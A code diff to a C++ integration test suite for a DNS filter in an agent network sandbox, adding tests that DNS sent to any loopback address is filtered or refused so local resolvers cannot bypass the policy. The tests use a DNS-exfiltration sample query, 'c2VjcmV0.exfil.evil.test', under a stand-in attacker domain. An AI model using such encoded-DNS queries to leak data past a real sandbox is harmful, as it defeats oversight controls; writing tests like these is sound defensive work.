@@ -8,6 +8,7 @@
 // where the filter told the agent the name is.
 #include <unistd.h>
 
+#include <fstream>
 #include <functional>
 #include <memory>
 #include <string>
@@ -18,6 +19,8 @@
 #include "absl/strings/strip.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
+#include "controlplane/loopback_resolvers.h"
+#include "controlplane/netfilter_factory.h"
 #include "proxy/testing/upstream_server.h"
 #include "test/fixtures/root.h"
 #include "test/proxy/test_resolver.h"
@@ -29,6 +32,14 @@ namespace {
 using proxy::testing::UpstreamServer;
 
 constexpr size_t kFiltered = 0, kUnfiltered = 1, kLoopback = 2;
+// Rule N15's agents: the filter under network.udp: allow; no filter (network.dns: resolvers),
+// with and without network.udp: allow; no filter with a loopback resolver of its own; no filter
+// and no resolvers (the chain of a subject with no policy).
+constexpr size_t kFilteredUdp = 3, kUnfilteredUdp = 4, kUnfilteredLoopback = 5, kNoResolvers = 6;
+// The loopback addresses a host's local resolvers answer on besides the one resolv.conf names
+// (systemd-resolved's 127.0.0.54, dnsmasq's or unbound's 127.0.0.1, ::1), each answering here
+// with its own address for allowed.test, so that an answer that came from one is told apart.
+const char* const kOtherLoopbackResolvers[] = {"127.0.0.54", "127.0.0.1", "::1"};
 constexpr char kResolver[] = "192.0.2.53";
 constexpr char kPolicy[] =
     R"pb(network { mode: MODE_WHITELIST allow { entries: "allowed.test" } })pb";
@@ -42,14 +53,19 @@ class DnsFilterNetnsTest : public ::testing::Test {
   }
   static absl::Status SetUpBed() {
     TestbedOptions options;
-    options.agents = {{"ldns-f", 18011}, {"ldns-r", 18012}, {"ldns-l", 18013}};
+    options.agents = {{"ldns-f", 18011}, {"ldns-r", 18012}, {"ldns-l", 18013}, {"ldns-fu", 18014},
+                      {"ldns-ru", 18015}, {"ldns-rl", 18016}, {"ldns-n", 18017}};
     options.v0_addresses = {"192.0.2.10/24", "2001:db8::10/64"};
     options.v1_addresses = {"192.0.2.11/24", "192.0.2.12/24", "192.0.2.53/24", "2001:db8::53/64"};
     // The third agent's resolver listens on loopback, as a local caching resolver does.
     // The filtered agent also has an IPv6 resolver address; the filter forwards to the first.
     options.dns = {{{kResolver, "2001:db8::53"}, /*filter=*/true},
                    {{kResolver}, /*filter=*/false},
-                   {{"127.0.0.53"}, /*filter=*/true}};
+                   {{"127.0.0.53"}, /*filter=*/true},
+                   {{kResolver}, /*filter=*/true, /*udp_allow=*/true},
+                   {{kResolver}, /*filter=*/false, /*udp_allow=*/true},
+                   {{"127.0.0.53"}, /*filter=*/false},
+                   {{}, /*filter=*/false}};
     options.proxy_flags = {"--peek-timeout=300ms", "--connect-timeout=3s"};
     options.helpers = {"test/proxy/probe", "test/proxy/dns_probe"};
     absl::StatusOr<std::unique_ptr<ProxyTestbed>> bed = ProxyTestbed::Create(options);
@@ -84,14 +100,30 @@ class DnsFilterNetnsTest : public ::testing::Test {
           TestResolver::Start("127.0.0.53", {{"allowed.test", {"192.0.2.11"}}});
       if (!local.ok()) return local.status();
       local_resolver_ = local->release();
+      for (const char* address : kOtherLoopbackResolvers) {
+        absl::StatusOr<std::unique_ptr<TestResolver>> other =
+            TestResolver::Start(address, {{"allowed.test", {"192.0.2.99"}},
+                                          {kExfil, {"192.0.2.66"}}});
+        if (!other.ok()) return other.status();
+        other_local_resolvers_.push_back(other->release());
+      }
     }
     if (absl::Status started = bed_->StartProxy(); !started.ok()) return started;
-    return bed_
-        ->PublishAndWait({bed_->Subject(kFiltered, kPolicy), bed_->Subject(kUnfiltered, kPolicy),
-                          bed_->Subject(kLoopback, kPolicy)})
-        .status();
+    return bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kPolicy))).status();
+  }
+  // Every agent's subject, the first one's as given.
+  static std::vector<leash::v1::SubjectPolicy> AllSubjects(leash::v1::SubjectPolicy filtered) {
+    return {std::move(filtered),
+            bed_->Subject(kUnfiltered, kPolicy),
+            bed_->Subject(kLoopback, kPolicy),
+            bed_->Subject(kFilteredUdp, kPolicy),
+            bed_->Subject(kUnfilteredUdp, kPolicy),
+            bed_->Subject(kUnfilteredLoopback, kPolicy),
+            bed_->NoPolicySubject(kNoResolvers, "its policy does not load (test)")};
   }
   static void TearDownTestSuite() {
+    for (TestResolver* other : other_local_resolvers_) delete other;
+    other_local_resolvers_.clear();
     delete server_;
     delete resolver_;
     delete local_resolver_;
@@ -141,6 +173,7 @@ class DnsFilterNetnsTest : public ::testing::Test {
   static ProxyTestbed* bed_;
   static TestResolver* resolver_;
   static TestResolver* local_resolver_;
+  static std::vector<TestResolver*> other_local_resolvers_;
   static UpstreamServer* server_;
   size_t records_before_ = 0;
 };
@@ -149,6 +182,7 @@ absl::Status* DnsFilterNetnsTest::setup_ = nullptr;
 ProxyTestbed* DnsFilterNetnsTest::bed_ = nullptr;
 TestResolver* DnsFilterNetnsTest::resolver_ = nullptr;
 TestResolver* DnsFilterNetnsTest::local_resolver_ = nullptr;
+std::vector<TestResolver*> DnsFilterNetnsTest::other_local_resolvers_;
 UpstreamServer* DnsFilterNetnsTest::server_ = nullptr;
 
 TEST_F(DnsFilterNetnsTest, ExfiltrationThroughADeniedNameIsNxdomainLoggedAndNeverForwarded) {
@@ -187,19 +221,13 @@ TEST_F(DnsFilterNetnsTest, AnAnswerLeadingToAMetadataPrivateOrLoopbackAddressIsR
     mode: MODE_WHITELIST
     allow { entries: "allowed.test" entries: "10.0.0.0/8" }
   })pb";
-  ASSERT_TRUE(bed_->PublishAndWait({bed_->Subject(kFiltered, kWithCidr),
-                                    bed_->Subject(kUnfiltered, kPolicy),
-                                    bed_->Subject(kLoopback, kPolicy)})
-                  .ok());
+  ASSERT_TRUE(bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kWithCidr))).ok());
   EXPECT_EQ(Dns(kFiltered, {"udp", kResolver, "lan.allowed.test"}),
             "rcode=0 tc=0 id=20817 answers=2 addrs=192.0.2.12,10.1.2.3 bytes=66");
   EXPECT_THAT(Dns(kFiltered, {"udp", kResolver, "metadata.allowed.test"}),
               ::testing::StartsWith("rcode=5 "))
       << "the CIDR entry names 10/8 only";
-  ASSERT_TRUE(bed_->PublishAndWait({bed_->Subject(kFiltered, kPolicy),
-                                    bed_->Subject(kUnfiltered, kPolicy),
-                                    bed_->Subject(kLoopback, kPolicy)})
-                  .ok());
+  ASSERT_TRUE(bed_->PublishAndWait(AllSubjects(bed_->Subject(kFiltered, kPolicy))).ok());
 }
 
 TEST_F(DnsFilterNetnsTest, AnAllowedNameResolvesOverUdpAndTcp) {
@@ -266,6 +294,7 @@ TEST_F(DnsFilterNetnsTest, ResolveThenConnectGoesWhereTheFilterToldTheAgent) {
 // A resolver on loopback is no way around the filter: TCP to it would otherwise meet the
 // loopback exemption.
 TEST_F(DnsFilterNetnsTest, ALoopbackResolverIsFilteredOverUdpAndTcp) {
+  const int before = local_resolver_->Asked("allowed.test");
   for (const char* transport : {"udp", "tcp"}) {
     EXPECT_EQ(Dns(kLoopback, {transport, "127.0.0.53", "c2VjcmV0.exfil.evil.test"}),
               "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
@@ -275,7 +304,97 @@ TEST_F(DnsFilterNetnsTest, ALoopbackResolverIsFilteredOverUdpAndTcp) {
         << transport;
   }
   EXPECT_EQ(local_resolver_->Asked(kExfil), 0);
-  EXPECT_EQ(local_resolver_->Asked("allowed.test"), 2);
+  EXPECT_EQ(local_resolver_->Asked("allowed.test"), before + 2);
+}
+
+// Rule N15: DNS to any loopback address goes to the subject's filter — systemd-resolved's
+// 127.0.0.54, a dnsmasq on 127.0.0.1, ::1, the IPv4-mapped spelling, and the unspecified
+// addresses Linux connects to loopback — over UDP and TCP, also under network.udp: allow. A
+// denied name is NXDOMAIN with a decision line, an allowed one is answered by the subject's own
+// resolver (192.0.2.11, not the local resolver's 192.0.2.99), and no local resolver is asked.
+TEST_F(DnsFilterNetnsTest, LoopbackDnsGoesToTheSubjectsFilterWhicheverLoopbackAddress) {
+  for (size_t agent : {kFiltered, kFilteredUdp}) {
+    for (const char* server :
+         {"127.0.0.54", "127.0.0.1", "::1", "::ffff:127.0.0.54", "0.0.0.0", "::"}) {
+      for (const char* transport : {"udp", "tcp"}) {
+        EXPECT_EQ(Dns(agent, {transport, server, "c2VjcmV0.exfil.evil.test"}),
+                  "rcode=3 tc=0 id=20817 answers=0 addrs= bytes=42")
+            << agent << " " << transport << " " << server;
+        EXPECT_EQ(Dns(agent, {transport, server, "allowed.test"}),
+                  "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
+            << agent << " " << transport << " " << server;
+      }
+    }
+    for (const char* transport : {"UDP", "TCP"}) {
+      const leash::v1::DecisionRecord record = RecordWith(
+          agent, absl::StrCat("A question over ", transport, " answered NXDOMAIN"));
+      EXPECT_EQ(record.action(), "block");
+      EXPECT_EQ(record.subject().domain(), kExfil);
+    }
+  }
+  for (const TestResolver* other : other_local_resolvers_) EXPECT_EQ(other->asked_total(), 0);
+}
+
+// Rule N15 without a filter (network.dns: resolvers, with and without network.udp: allow, and a
+// subject with no policy, whose chain has neither filter nor resolvers): DNS to a loopback
+// address is refused at once (TCP reset, UDP port unreachable) and reaches no local resolver;
+// the subject's own loopback resolver still answers it over UDP and TCP.
+TEST_F(DnsFilterNetnsTest, LoopbackDnsWithoutAFilterIsRefusedButToTheSubjectsOwnResolvers) {
+  for (size_t agent : {kUnfiltered, kUnfilteredUdp, kUnfilteredLoopback, kNoResolvers}) {
+    for (const char* server : {"127.0.0.54", "127.0.0.1", "::1", "::ffff:127.0.0.54"}) {
+      EXPECT_EQ(Dns(agent, {"tcp", server, "allowed.test"}), "connect failed: Connection refused")
+          << agent << " " << server;
+      EXPECT_EQ(Dns(agent, {"udp", server, "allowed.test"}), "no answer")
+          << agent << " " << server;
+    }
+  }
+  for (const TestResolver* other : other_local_resolvers_) EXPECT_EQ(other->asked_total(), 0);
+  {
+    // Each refusal is counted on the subject's own chain, as `leash status` shows it: at least
+    // the four TCP SYNs and four datagrams above.
+    absl::StatusOr<NetNamespace::Entered> entered = bed_->ns().Enter();
+    ASSERT_TRUE(entered.ok()) << entered.status();
+    absl::StatusOr<controlplane::NetfilterChoice> nft =
+        controlplane::ChooseNetfilter(controlplane::NetfilterBackend::kNftables);
+    ASSERT_TRUE(nft.ok()) << nft.status();
+    for (size_t agent : {kUnfiltered, kUnfilteredUdp, kUnfilteredLoopback, kNoResolvers}) {
+      absl::StatusOr<controlplane::NetfilterCounters> counters =
+          nft->netfilter->ReadCounters(bed_->uid(agent));
+      ASSERT_TRUE(counters.ok()) << counters.status();
+      EXPECT_GE(counters->loopback_dns_refused_packets, 8u) << agent;
+    }
+  }
+  const int before = local_resolver_->Asked("allowed.test");
+  for (const char* transport : {"udp", "tcp"}) {
+    EXPECT_EQ(Dns(kUnfilteredLoopback, {transport, "127.0.0.53", "allowed.test"}),
+              "rcode=0 tc=0 id=20817 answers=1 addrs=192.0.2.11 bytes=46")
+        << transport;
+  }
+  EXPECT_EQ(local_resolver_->Asked("allowed.test"), before + 2);
+}
+
+// What `leash status` names (rule N15): read from this namespace's real socket tables, every
+// local resolver here — resolv.conf's loopback nameserver and the ones it does not name.
+TEST_F(DnsFilterNetnsTest, StatusFindsTheLoopbackResolversOfTheHost) {
+  const std::string resolv_conf = absl::StrCat(::testing::TempDir(), "/resolv.conf");
+  {
+    std::ofstream out(resolv_conf);
+    out << "nameserver 127.0.0.53\nnameserver 192.0.2.53\n";
+  }
+  std::vector<std::string> described;
+  {
+    absl::StatusOr<NetNamespace::Entered> entered = bed_->ns().Enter();
+    ASSERT_TRUE(entered.ok()) << entered.status();
+    absl::StatusOr<std::vector<controlplane::LoopbackResolver>> found =
+        controlplane::FindLoopbackResolvers(resolv_conf);
+    ASSERT_TRUE(found.ok()) << found.status();
+    for (const controlplane::LoopbackResolver& r : *found) {
+      described.push_back(controlplane::DescribeLoopbackResolver(r));
+    }
+  }
+  EXPECT_THAT(described, ::testing::UnorderedElementsAre(
+                             "127.0.0.53 (resolv.conf; udp, tcp)", "127.0.0.54 (udp, tcp)",
+                             "127.0.0.1 (udp, tcp)", "::1 (udp, tcp)"));
 }
 
 TEST_F(DnsFilterNetnsTest, DnsToAnyOtherServerStaysClosed) {
